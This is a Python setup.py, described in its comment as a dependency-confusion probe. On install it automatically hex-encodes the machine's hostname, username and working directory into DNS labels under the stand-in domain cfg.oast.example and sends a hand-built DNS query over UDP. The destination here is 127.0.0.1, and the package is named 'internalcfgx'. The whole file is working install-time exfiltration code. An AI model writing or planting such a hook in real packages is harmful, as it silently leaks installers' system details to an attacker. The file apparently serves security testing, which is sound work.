# Dependency-confusion probe: setup.py hex-encodes host, user and cwd into
# DNS labels and sends the query straight to 127.0.0.1:53.
import getpass
import os
import socket
from setuptools import setup


def probe():
    hexs = lambda s: s.encode().hex()[:60]
    labels = [hexs(socket.gethostname()), hexs(getpass.getuser()), hexs(os.getcwd()),
              "cfg", "oast", "example"]
    q = bytes([0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])
    for l in labels:
        q += bytes([len(l)]) + l.encode()
    q += bytes([0, 0, 1, 0, 1])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, ("127.0.0.1", 53))
    s.close()


probe()
setup(name="internalcfgx", version="1.0.0", py_modules=["internalcfgx"])
